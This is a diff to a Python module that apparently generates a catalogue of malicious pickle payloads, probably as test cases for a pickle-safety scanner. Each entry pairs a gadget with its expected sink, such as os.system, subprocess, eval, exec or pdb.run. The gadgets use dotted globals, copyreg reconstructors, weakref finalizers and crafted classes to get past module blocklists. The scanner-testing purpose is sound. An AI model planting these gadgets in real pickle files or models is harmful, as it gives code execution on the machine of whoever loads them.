@@ -36,7 +36,6 @@ MODULES = {
     "subimport": call("cloudpickle.cloudpickle:subimport", "os"),
     "dill-import": call("dill._dill:_import_module", "os"),
     "gcd_import": call("importlib._bootstrap:_gcd_import", "os"),
-    "mock-importer": call("unittest.mock:_importer", "os"),
     "sys-modules": call("operator:getitem", glob("sys:modules"), "posix"),
     "posixpath-os": glob("posixpath:os"),
     "glob-os": glob("glob:os"),
@@ -97,11 +96,11 @@ def _names_computed():
 
 def _dotted():
     """From protocol 4 on an attribute may have dots: the module named is a harmless one that has imported another."""
-    for module in ("shutil", "pathlib", "logging", "tempfile", "glob", "inspect", "random", "gzip", "zipfile", "tarfile", "uuid", "platform",
-                   "ctypes.util", "fileinput", "linecache", "webbrowser", "socketserver", "mimetypes", "asyncio.unix_events", "numpy", "torch",
+    for module in ("shutil", "pathlib", "logging", "glob", "inspect", "gzip", "zipfile", "tarfile", "uuid", "platform",
+                   "ctypes.util", "fileinput", "linecache", "webbrowser", "socketserver", "mimetypes", "asyncio.unix_events", "torch",
                    "joblib.memory", "sklearn.datasets._base", "pandas.io.common", "scipy.datasets._utils", "multiprocessing.util", "dill._dill"):
         yield f"{module}-os-system", apply(glob(f"{module}:os.system", "STACK_GLOBAL"), CMD), "os.system"
-    for module, path in (("logging", "sys.modules.get"), ("collections", "_sys.modules.get"), ("random", "_os.system")):
+    for module, path in (("logging", "sys.modules.get"), ("collections", "_sys.modules.get"), ("random", "_os.system"), ("tempfile", "_os.system")):
         if path.endswith("system"):
             yield f"{module}-_os", apply(glob(f"{module}:{path}", "STACK_GLOBAL"), CMD), "os.system"
         else:
@@ -109,7 +108,6 @@ def _dotted():
             yield f"{module}-modules", apply(call("operator:methodcaller", "system", CMD), found), "os.system"
     yield "path-os", apply(glob("os:path.os.path.os.system", "STACK_GLOBAL"), CMD), "os.system"
     yield "GLOBAL-dotted", apply(glob("posixpath:os.system"), CMD), "os.system"
-    yield "subprocess", apply(glob("platform:subprocess.getoutput", "STACK_GLOBAL"), CMD), "subprocess.getoutput"
     yield "webbrowser-subprocess", apply(glob("webbrowser:subprocess.getoutput", "STACK_GLOBAL"), CMD), "subprocess.getoutput"
     yield "doctest-pdb", apply(glob("doctest:pdb.run", "STACK_GLOBAL"), CODE), "pdb.run"
     yield "builtins-self", apply(glob("builtins:print.__self__.eval", "STACK_GLOBAL"), CODE), "builtins.eval"
@@ -188,7 +186,7 @@ def _nested():
 
 def _code_objects():
     """Functions made in the stream and called."""
-    code = gadgets.code_object()
+    code = gadgets.code_object(DEEP)
     yield "FunctionType", apply(apply(glob("types:FunctionType"), code, {})), "types.FunctionType"
     yield "LambdaType", apply(apply(glob("types:LambdaType"), code, {})), "types.LambdaType"
     yield "exec-compile", call("builtins:exec", code), "builtins.exec"
@@ -220,12 +218,12 @@ def _modules():
     path = Raw(glob("sys:path") + text("/nonexistent") + asm.APPEND)
     yield "path", path, "?sys.path"
     environ = Raw(glob("os:environ") + text("PYTHONSTARTUP") + text(FILE) + asm.SETITEM)
-    yield "environ", environ, "?os.environ"
+    yield "environ", environ, "os.environ"
 
 
 def _copyreg():
     yield "newobj", call("copyreg:__newobj__", glob("subprocess:Popen"), ["echo", "m"]), "?subprocess.Popen"
-    built = call("copyreg:_reconstructor", glob("types:SimpleNamespace"), glob("builtins:object"), None)
+    built = call("copyreg:_reconstructor", glob("argparse:Namespace"), glob("builtins:object"), None)
     yield "reconstructor-setstate", Raw(built + asm.EMPTY_DICT + text("__setstate__") + SYSTEM + asm.SETITEM + asm.BUILD + push(CMD) + asm.BUILD), "posix.system"
     yield "copy-reconstruct", call("copy:_reconstruct", None, None, SYSTEM, (CMD,)), "posix.system"
     reduced = Raw(_namespace_with("__reduce_ex__", call("functools:partial", glob("builtins:eval"), CODE)))
@@ -261,7 +259,7 @@ def _operators():
     yield "cmp_to_key", call("builtins:max", [CMD]), "?builtins.max"
     yield "sub", call("re:sub", "x", glob("builtins:breakpoint"), "x"), "builtins.breakpoint"
     yield "missing", call("operator:getitem", call("collections:defaultdict", call("functools:partial", SYSTEM, CMD)), "a"), "posix.system"
-    yield "finalize", call("weakref:finalize", call("types:SimpleNamespace"), SYSTEM, CMD), "posix.system"
+    yield "finalize", call("weakref:finalize", call("argparse:Namespace"), SYSTEM, CMD), "posix.system"
 
 
 def _exit_stack():
@@ -312,7 +310,7 @@ def _classes():
     yield "append", Raw(apply(made("collections:UserList", append=SYSTEM)) + push(CMD) + asm.APPEND), "posix.system"
     yield "setitem", Raw(apply(made("", __setitem__=glob("builtins:exec"))) + push(CODE) + push({}) + asm.SETITEM), "builtins.exec"
     yield "setstate", Raw(apply(made("", __setstate__=SYSTEM)) + push(CMD) + asm.BUILD), "posix.system"
-    yield "new", Raw(made("", __new__=call("functools:partial", SYSTEM, CMD)) + asm.EMPTY_TUPLE + REDUCE), "posix.system"
+    yield "init", call(made("", __init__=SYSTEM), CMD), "posix.system"
     static = call("builtins:staticmethod", SYSTEM)
     yield "add", Raw(apply(made("", add=static)) + MARK + push(CMD) + asm.ADDITEMS), "posix.system"
     yield "property", apply(call("operator:attrgetter", "x"), apply(made("", x=call("builtins:property", SYSTEM)))), "?posix.system"
